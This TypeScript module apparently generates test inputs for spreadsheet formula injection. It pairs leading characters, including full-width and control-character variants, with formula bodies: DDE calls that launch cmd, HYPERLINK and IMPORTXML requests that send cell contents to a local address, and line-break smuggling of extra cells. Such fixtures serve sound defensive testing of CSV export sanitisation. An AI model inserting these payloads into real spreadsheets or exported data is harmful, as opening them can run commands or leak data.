const openings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '\t',
  '\r',
  '\0',
];
const bodies = [
  (n: number) => `1+${n}`,
  (n: number) => `SUM(A1:A${n})`,
  (n: number) => `HYPERLINK("http://127.0.0.1/?q=${n}","open")`,
  (n: number) => `cmd|' /C calc'!A${n}`,
  (n: number) => `DDE("cmd";"/C calc";"${n}")`,
  (n: number) => `IMPORTXML(CONCAT("http://127.0.0.1/",A${n}),"//a")`,
  (n: number) => `2+5+${n}"\r\n=1+1,"`,
  (n: number) => `A${n},=1+1;=2+2`,
];

/** Different texts that spreadsheets have been tricked with: every opening with every body. */
export function formulaPayloads(count: number): string[] {
  return Array.from({ length: count }, (_, n) => {
    const opening = openings[n % openings.length] ?? '=';
    const body = bodies[Math.floor(n / openings.length) % bodies.length];
    return `${opening}${body?.(n) ?? ''}`;
  });
}
